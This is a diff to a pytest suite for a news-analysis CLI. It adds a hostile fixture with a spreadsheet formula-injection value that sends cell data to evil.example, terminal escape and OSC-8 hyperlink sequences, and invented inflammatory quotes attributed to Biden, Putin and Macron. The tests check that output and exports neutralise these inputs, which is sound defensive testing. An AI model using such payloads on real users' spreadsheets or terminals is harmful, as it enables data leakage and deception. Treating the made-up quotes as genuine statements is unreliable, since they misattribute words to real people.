@@ -12,6 +12,15 @@ from pathlib import Path
 import pytest
 
 BAD_JSONL = '{"title": "Ok", "text": "Fine article text about the summit."}\nnot json at all\n'
+#: hostile metadata and text: a formula for spreadsheets, escape sequences for terminals
+#: (clear screen, colour, an OSC-8 hyperlink) and a name split by a tab and a line break
+HOSTILE_TXT = (
+    'outlet: =HYPERLINK("http://evil.example/?"&A1,"source")\n'
+    "date: 2024-11-20\n\n"
+    "Kremlin \x1b[2J\x1b[32mVERIFIED\x1b[0m \x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\\n\n"
+    "President Joe\tBiden and Vladimir\nPutin are reckless warmongers who push the world to war,"
+    " said Emmanuel Macron. Joe\tBiden is a criminal, Putin said.\n"
+)
 
 
 def _run(*args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
@@ -36,10 +45,11 @@ def analysed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
     (corpus / "empty.txt").write_bytes(b"")
     (corpus / "blob.txt").write_bytes(b"\x00\x01\x02binary\x00" * 50)
     (corpus / "feed.jsonl").write_text(BAD_JSONL, encoding="utf-8")
+    (corpus / "hostile.txt").write_text(HOSTILE_TXT, encoding="utf-8")
     db = root / "news.db"
     result = _run("analyze", str(corpus), "--db", str(db), "--json")
     summary = json.loads(result.stdout)
-    assert summary["analysed"] == 4
+    assert summary["analysed"] == 5
     rejected = {Path(src).name.split(":")[0]: reason for src, reason in summary["rejects"]}
     assert set(rejected) == {"empty.txt", "blob.txt", "feed.jsonl"}
     assert any(src.endswith("feed.jsonl:2") for src, _ in summary["rejects"])
@@ -62,7 +72,7 @@ def test_show_and_search(analysed: tuple[Path, Path]) -> None:
     assert "warmongers" in hits.lower()
     _run("export", "--db", str(db), "--format", "jsonl", "--out", str(root / "jsonl"))
     lines = (root / "jsonl" / "documents.jsonl").read_text(encoding="utf-8").splitlines()
-    assert len(lines) == 4
+    assert len(lines) == 5
     doc_id = json.loads(lines[0])["id"]
     shown = json.loads(_run("show", doc_id[:8], "--db", str(db), "--json").stdout)
     assert shown["id"] == doc_id
@@ -72,7 +82,7 @@ def test_show_and_search(analysed: tuple[Path, Path]) -> None:
 def test_export_formats(analysed: tuple[Path, Path]) -> None:
     root, db = analysed
     _run("export", "--db", str(db), "--format", "csv", "--out", str(root / "csv"))
-    assert (root / "csv" / "articles.csv").read_text().count("\n") == 5  # header + 4
+    assert (root / "csv" / "articles.csv").read_text().count("\n") == 6  # header + 5
     with (root / "csv" / "entities.csv").open(encoding="utf-8") as fh:
         entities = list(csv.DictReader(fh))
     framed = [e for e in entities if e["main_role"]]
@@ -101,10 +111,32 @@ def test_export_formats(analysed: tuple[Path, Path]) -> None:
     assert (root / "sem" / "techniques-predictions.txt").exists()
 
 
+def test_hostile_text_reaches_no_terminal_and_no_spreadsheet(analysed: tuple[Path, Path]) -> None:
+    root, db = analysed
+    hits = _run("search", "warmongers", "--db", str(db)).stdout
+    assert "VERIFIED" in hits and "\x1b" not in hits
+    docs = [json.loads(line) for line in (root / "jsonl" / "documents.jsonl").open()]
+    (doc_id,) = [d["id"] for d in docs if d["source"].endswith("hostile.txt")]
+    shown = _run("show", doc_id, "--db", str(db)).stdout
+    assert "VERIFIED" in shown and "Joe Biden" in shown and "\x1b" not in shown
+    _run("export", "--db", str(db), "--format", "csv", "--out", str(root / "csv2"))
+    with (root / "csv2" / "articles.csv").open(encoding="utf-8") as fh:
+        outlets = [row["outlet"] for row in csv.DictReader(fh)]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"source")' in outlets
+    assert not any(o.startswith(("=", "+", "-", "@")) for o in outlets)
+    _run("export", "--db", str(db), "--format", "semeval", "--out", str(root / "sem2"))
+    text = (root / "sem2" / "subtask-1-predictions.txt").read_text(encoding="utf-8")
+    rows = [line.split("\t") for line in text.splitlines()]
+    # one well-formed row per mention: id, name, start, end, main role, fine roles
+    assert rows and all(len(r) >= 6 and r[2].isdigit() and r[3].isdigit() for r in rows)
+    names = {r[1] for r in rows if r[0] == "hostile.txt"}
+    assert names and not any(n != n.strip() for n in names)
+
+
 def test_rerun_is_a_no_op(analysed: tuple[Path, Path]) -> None:
     root, db = analysed
     summary = json.loads(_run("analyze", str(root / "corpus"), "--db", str(db), "--json").stdout)
-    assert summary["analysed"] == 0 and summary["unchanged"] == 4
+    assert summary["analysed"] == 0 and summary["unchanged"] == 5
 
 
 def test_fatal_errors_exit_non_zero_with_a_message(tmp_path: Path) -> None:
